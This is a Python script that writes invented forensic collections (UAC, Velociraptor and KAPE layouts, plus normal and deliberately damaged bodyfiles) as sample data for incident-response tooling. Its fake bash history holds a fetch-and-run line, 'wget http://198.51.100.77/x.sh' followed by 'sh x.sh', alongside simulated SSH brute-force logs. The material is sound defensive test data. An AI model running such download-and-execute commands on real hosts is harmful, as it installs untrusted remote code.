#!/usr/bin/env python3
"""Makes samples/collections/ and samples/bodyfile/: what other tools would have collected. Run it anywhere, as any user.

    samples/make_collections.py        needs Python 3.11

The layouts are those of UAC 3.3 (`uac -p ir_triage`), of Velociraptor's offline collector 0.7, and of KAPE with a zip container.
Hosts, people and addresses are invented.
"""

import gzip
import io
import json
import os
import struct
import tarfile
import zipfile
from urllib.parse import quote

HERE = os.path.dirname(os.path.abspath(__file__))
NOON = 1_793_793_600  # 2026-11-04T12:00:00Z
DAY = 86_400

PASSWD = "root:x:0:0:root:/root:/bin/bash\njane:x:1000:1000:Jane:/home/jane:/bin/bash\n"


def auth_log(host, first_pid):
    """Two days of November: passwords tried, one that works."""
    lines = []
    for n in range(24):
        day, hour = 3 + n // 12, n % 12
        lines.append(
            f"Nov  {day} {hour:02}:14:{n:02} {host} sshd[{first_pid + n}]: Failed password for root from 203.0.113.9 "
            f"port {40000 + n} ssh2\n"
        )
    lines.append(f"Nov  4 11:02:07 {host} sshd[{first_pid + 90}]: Accepted password for jane from 203.0.113.9 port 40100 ssh2\n")
    return "".join(lines)


def older_log(host):
    return "".join(f"Dec {day:2} 04:05:06 {host} CRON[{300 + day}]: (root) CMD (true)\n" for day in range(1, 28))


HISTORY = "#1793790100\nid\n#1793790107\nwget http://198.51.100.77/x.sh\n#1793790131\nsh x.sh\n"


def bodyfile():
    """As `stat` gives it to UAC: name, inode, mode, owner, size, four times."""
    rows = []

    def add(name, inode, mode, uid, size, atime, mtime, ctime, born):
        rows.append(f"0|{name}|{inode}|{mode}|{uid}|{uid}|{size}|{atime}|{mtime}|{ctime}|{born}\n")

    add("/", 2, "drwxr-xr-x", 0, 4096, NOON - 60, NOON - 90 * DAY, NOON - 90 * DAY, NOON - 400 * DAY)
    add("/bin -> usr/bin", 12, "lrwxrwxrwx", 0, 7, NOON - 60, NOON - 400 * DAY, NOON - 400 * DAY, 0)
    for n, name in enumerate(["passwd", "shadow", "group", "hostname", "hosts", "crontab", "fstab", "profile"]):
        day = NOON - (300 - n) * DAY
        add(f"/etc/{name}", 131_100 + n, "-rw-r--r--", 0, 100 + 17 * n, NOON - n, day, day + 3, day)
    add("/etc/cron.d/.x", 131_177, "-rw-r--r--", 0, 61, NOON - 2_000, NOON - 3_460, NOON - 3_460, NOON - 3_460)
    add("/tmp/x.sh", 524_301, "-rwxr-xr-x", 1000, 2_211, NOON - 3_450, NOON - 3_470, NOON - 3_455, NOON - 3_470)
    add("/tmp/odd|name", 524_302, "-rw-------", 1000, 0, NOON - 3_400, NOON - 3_400, NOON - 3_400, NOON - 3_400)
    add("/tmp/with space -> not a link", 524_303, "-rw-------", 1000, 9, NOON, NOON, NOON, NOON)
    add("/var/log/auth.log", 262_201, "-rw-r-----", 0, 2_601, NOON, NOON - 3_473, NOON - 3_473, NOON - 30 * DAY)
    add("/var/log/wtmp", 262_202, "-rw-rw-r--", 0, 3_840, NOON, NOON - 3_473, NOON - 3_473, NOON - 30 * DAY)
    add("/dev/null", 4, "crw-rw-rw-", 0, 0, NOON - 9_000, NOON - 9_000, NOON - 9_000, 0)
    add("/run/dbus/system_bus_socket", 911, "srw-rw-rw-", 0, 0, NOON - 9_000, NOON - 9_000, NOON - 9_000, 0)
    add("/run/initctl", 912, "prw-------", 0, 0, "1793784600.250000000", "1793784600.250000000", "1793784600.250000000", "-")
    add("/sys/never", 913, "-r--r--r--", 0, 4096, 0, 0, 0, 0)
    return "".join(rows)


FLS = """\
0|/$MFT|0-128-1|r/rr-xr-xr-x|0|0|262144|1761000000|1761000000|1761000000|1761000000
0|/Users/jane/note.txt|40-128-1|r/rrwxrwxrwx|0|0|12|1761000300|1761000100|1761000200|1761000100
0|/Users/jane/note.txt ($FILE_NAME)|40-48-2|r/rrwxrwxrwx|0|0|82|1761000100|1761000100|1761000100|1761000100
0|/Users/jane/gone.txt (deleted)|41-128-1|r/rrwxrwxrwx|0|0|9|1761000400|1761000400|1761000400|1761000100
0|/Users/jane/over.txt (deleted-realloc)|42-128-1|-/rrwxrwxrwx|0|0|9|1761000400|1761000400|1761000400|1761000100
d41d8cd98f00b204e9800998ecf8427e|/Users/jane/empty|43-128-1|r/rrwxrwxrwx|0|0|0|1761000500|1761000500|1761000500|1761000500
0|/$OrphanFiles|64|V/V---------|0|0|0|0|0|0|0
"""


def damaged_bodyfile():
    good = "0|/etc/issue|7|-rw-r--r--|0|0|27|1761000000|1761000001|1761000002|1761000003\n"
    return good + (
        "0|/etc/motd|8|-rw-r--r--|0|0|27|1761000000|1761000001|1761000002\n"
        "0||9|-rw-r--r--|0|0|27|1761000000|1761000001|1761000002|0\n"
        "0|/size|9|-rw-r--r--|0|0|big|1761000000|1761000001|1761000002|0\n"
        "0|/time|9|-rw-r--r--|0|0|1|1761000000|soon|1761000002|0\n"
        "0|/far|9|-rw-r--r--|0|0|1|99999999999999|-5|1761000002|0\n"
        "stat: cannot stat '/proc/77': No such file or directory\n"
    ) + good.replace("issue", "is\0sue") + good[:40]


def uac():
    """`uac-web02-linux-20261104120000.tar.gz`: what UAC made itself first, then the host's files below `[root]/`."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:

        def add(name, content, mtime=NOON, kind=tarfile.REGTYPE, target=""):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mtime, info.mode = kind, target, mtime, 0o640
            content = content if isinstance(content, bytes) else content.encode()
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))

        add("uac.log", "2026-11-04 11:58:00 +0000 INF UAC (Unix-like Artifacts Collector) 3.3.0\n")
        add("bodyfile", b"", kind=tarfile.DIRTYPE)
        add("bodyfile/bodyfile.txt", bodyfile())
        add("live_response/process/ps_auxwww.txt", "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 1 0.0 0.1 1 1 ? Ss Oct30 0:09 /sbin/init\n")
        add("live_response/system/hostname.txt", "web02\n")
        add("[root]/etc/hostname", "web02\n", NOON - 297 * DAY)
        add("[root]/etc/passwd", PASSWD, NOON - 300 * DAY)
        add("[root]/etc/timezone", "Asia/Tokyo\n", NOON - 300 * DAY)
        add("[root]/etc/localtime", b"", NOON - 300 * DAY, tarfile.SYMTYPE, "/usr/share/zoneinfo/Asia/Tokyo")
        add("[root]/var/log/auth.log", auth_log("web02", 4000), NOON - 3_473)
        add("[root]/var/log/syslog.2.gz", gzip.compress(older_log("web02").encode(), mtime=0), 1_767_052_800)
        add("[root]/root/.bash_history", HISTORY, NOON - 3_400)
        add("[root]/home/jane/" + "a-folder-with-a-long-name/" * 5 + ".bash_history", HISTORY, NOON - 3_400)
    return gzip.compress(out.getvalue(), mtime=0)


def zipped(members, extra):
    """A zip like Go's writer makes it: deflated, each time once as local and once as UTC."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content, mtime in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 4, 12, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.create_system = 0
            if extra:
                info.extra = struct.pack("<HHBi", 0x5455, 5, 1, mtime)
            archive.writestr(info, content if isinstance(content, bytes) else content.encode())
    return out.getvalue()


def velociraptor():
    """`Collection-db01-2026-11-04T12_00_00Z.zip`: uploads by accessor, results of the queries, what was asked."""
    def upload(path):
        return "uploads/auto/" + "/".join(quote(part, safe=" .-_") for part in path.strip("/").split("/"))

    files = [
        ("/etc/hostname", "db01\n", NOON - 200 * DAY),
        ("/etc/passwd", PASSWD, NOON - 200 * DAY),
        ("/etc/timezone", "Europe/Berlin\n", NOON - 200 * DAY),
        ("/var/log/auth.log", auth_log("db01", 7000), NOON - 3_473),
        ("/var/log/syslog.2.gz", gzip.compress(older_log("db01").encode(), mtime=0), 1_767_052_800),
        ("/home/jane/.bash_history", HISTORY, NOON - 3_400),
        ("/home/jane/50% off: notes.txt", "nothing\n", NOON - 3_300),
    ]
    listed = "".join(json.dumps({"vfs_path": path, "file_size": len(content)}) + "\n" for path, content, _ in files)
    members = [
        ("client_info.json", json.dumps({"Hostname": "db01", "OS": "linux"}) + "\n", NOON),
        ("collection_context.json", json.dumps({"session_id": "F.TEST", "state": "FINISHED"}) + "\n", NOON),
        ("results/Linux.Sys.Users.json", json.dumps({"User": "jane", "Uid": "1000"}) + "\n", NOON),
        ("uploads.json", listed, NOON),
    ]
    return zipped(members + [(upload(path), content, mtime) for path, content, mtime in files], True)


def kape():
    """`2026-11-04T120000_ws07.zip`: a folder for each drive, times only as local ones."""
    return zipped(
        [
            ("2026-11-04T12_00_00_ConsoleLog.txt", "KAPE\n", NOON),
            ("C/Users/jane/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "whoami\r\n", NOON),
            ("C/inetpub/logs/access.log", "".join(
                f'203.0.113.9 - - [04/Nov/2026:11:{n:02}:00 +0000] "GET /{n} HTTP/1.1" 200 12\n' for n in range(20)
            ), NOON),
        ],
        False,
    )


def main():
    for name, content in {
        "collections/uac-web02-linux-20261104120000.tar.gz": uac(),
        "collections/Collection-db01-2026-11-04T12_00_00Z.zip": velociraptor(),
        "collections/kape-ws07.zip": kape(),
        "bodyfile/bodyfile/bodyfile.txt": bodyfile().encode(),
        "bodyfile/fls.body": FLS.encode(),
        "bodyfile/damaged/bodyfile.txt": damaged_bodyfile().encode(),
    }.items():
        path = os.path.join(HERE, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(content)


main()
